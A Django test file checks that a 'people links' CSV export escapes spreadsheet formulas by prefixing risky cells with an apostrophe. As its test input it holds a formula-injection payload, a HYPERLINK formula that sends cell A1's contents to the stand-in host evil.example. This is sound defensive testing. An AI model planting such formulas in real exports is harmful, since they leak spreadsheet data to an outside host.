"""`citybridge people links --format csv`: a sheet's file name is what someone typed."""

from __future__ import annotations

import csv
import datetime as dt
from io import StringIO

from django.core import management

from citybridge.engagement.models import Attendance, Engagement

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open").csv'


def test_people_links_never_writes_a_formula(hub):
    day = dt.date(2024, 3, 1)
    engagement = Engagement.objects.create(
        hub=hub, key="F1", title="Roundtable", kind="roundtable", starts_on=day, ends_on=day
    )
    for n, source in enumerate([FORMULA, "+381 sheet.csv", "plain.csv"], start=1):
        Attendance.objects.create(
            engagement=engagement, source_file=source, row_number=n, full_name=f"Person {n}"
        )
    out = StringIO()

    management.call_command("people", "links", "--format", "csv", stdout=out)

    rows = list(csv.reader(StringIO(out.getvalue())))
    assert rows[0] == ["source", "row", "person"]
    sources = sorted(r[0] for r in rows[1:])
    assert sources == ["'+381 sheet.csv", "'" + FORMULA, "plain.csv"]
    assert all(r[1].isdigit() for r in rows[1:])  # numbers stay numbers
